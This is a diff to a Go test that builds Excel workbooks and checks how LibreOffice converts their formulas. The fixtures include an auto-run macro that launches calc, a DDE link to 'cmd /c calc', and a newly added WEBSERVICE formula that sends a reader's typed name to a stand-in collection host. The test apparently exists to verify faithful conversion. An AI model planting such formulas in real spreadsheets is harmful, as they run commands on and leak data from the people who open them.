@@ -30,7 +30,16 @@ func TestLibreOfficeReadsOurWorkbooks(t *testing.T) {
 			{Name: "Macro1", Macro: true, State: 1, Formulas: []XLSFormula{{Rgce: Cat(Ptg12Str("calc"), PtgFuncVar(1, FtabExec, false))}}}},
 		Names: []XLSName{{Builtin: 1, Rgce: Ptg12Ref3d(0, 0, 0)}},
 		DDE:   [][2]string{{"cmd", "/c calc"}}})
-	out, err := soffice.ConvertFiles(t.TempDir(), "fods", map[string][]byte{"book.xls": xls, "book12.xlsb": xlsb})
+	// A web call whose address another cell builds from the reader's entry,
+	// and string cells: shared (BrtCellIsst) and inline (BrtCellSt).
+	web := XLSB(XLSWorkbook{
+		Sheets: []XLSSheet{{Name: "Form", Formulas: []XLSFormula{
+			{Rgce: Cat(PtgName(1), Ptg12Ref(2, 0), PtgFuncVar(2, 0xFF, false))},
+			{Row: 2, Rgce: Cat(Ptg12Str("https://collect.example.net/c?u="), Ptg12Ref(0, 1), PtgConcat)}},
+			Cells: []XLSCell{{Row: 0, Col: 2, Text: "Your name"}, {Row: 3, Col: 3, Text: "Inline"}}}},
+		Names:   []XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+		Strings: []string{"Your name"}})
+	out, err := soffice.ConvertFiles(t.TempDir(), "fods", map[string][]byte{"book.xls": xls, "book12.xlsb": xlsb, "web12.xlsb": web})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -41,6 +50,8 @@ func TestLibreOfficeReadsOurWorkbooks(t *testing.T) {
 		"book12.xlsb": {`<table:table table:name="Data"`, `<table:table table:name="Macro1"`, `table:formula="of:=SUM(1;2)"`, `office:value="3"`,
 			`office:string-value="abcd"`, `table:formula="of:=[.A1]*10"`, `office:value="30"`, `table:name="_xlnm.Auto_Open"`,
 			`table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"`},
+		"web12.xlsb": {`table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A3])"`, `table:formula="of:=&quot;https://collect.example.net/c?u=&quot;&amp;[.B1]"`,
+			`office:string-value="https://collect.example.net/c?u="`, `<text:p>Your name</text:p>`, `<text:p>Inline</text:p>`},
 	} {
 		got := string(out[name])
 		for _, w := range wants {
